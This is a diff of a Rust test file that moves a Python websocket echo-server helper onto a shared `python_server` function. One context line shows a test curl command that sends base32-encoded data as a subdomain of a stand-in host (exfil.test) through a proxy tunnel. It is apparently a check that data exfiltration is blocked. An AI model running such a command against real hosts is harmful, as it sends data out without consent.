@@ -579,9 +579,7 @@ curl -s -p -o /dev/null "http://{base32}.exfil.test:{port}/"; echo "tunnel $?""#
 /// A python `websockets` echo server (permessage-deflate on offer, as the
 /// library does by default) on `127.0.0.1:0`, stopped when dropped; `None`
 /// where python's websockets is missing (required under CI).
-#[allow(clippy::print_stdout)]
 async fn websocket_origin() -> Option<(tokio::process::Child, u16)> {
-    use tokio::io::AsyncBufReadExt;
     let script = r#"
 import asyncio
 from websockets.asyncio.server import serve
@@ -594,31 +592,7 @@ async def main():
         await asyncio.Future()
 asyncio.run(main())
 "#;
-    let mut child = tokio::process::Command::new("python3")
-        .args(["-c", script])
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::null())
-        .kill_on_drop(true)
-        .spawn()
-        .ok()?;
-    let stdout = child.stdout.take()?;
-    let mut line = String::new();
-    let read = tokio::time::timeout(
-        std::time::Duration::from_secs(20),
-        tokio::io::BufReader::new(stdout).read_line(&mut line),
-    )
-    .await;
-    match line.trim().parse::<u16>() {
-        Ok(port) if matches!(read, Ok(Ok(_))) => Some((child, port)),
-        _ => {
-            assert!(
-                std::env::var_os("CI").is_none(),
-                "python3 with websockets is required under CI (.ci/run installs it)"
-            );
-            println!("note: python3 websockets missing; skipped");
-            None
-        }
-    }
+    python_server(&["-c", script], "websockets").await
 }
 
 /// A python `websockets` client through `run`: each line of `cases` is
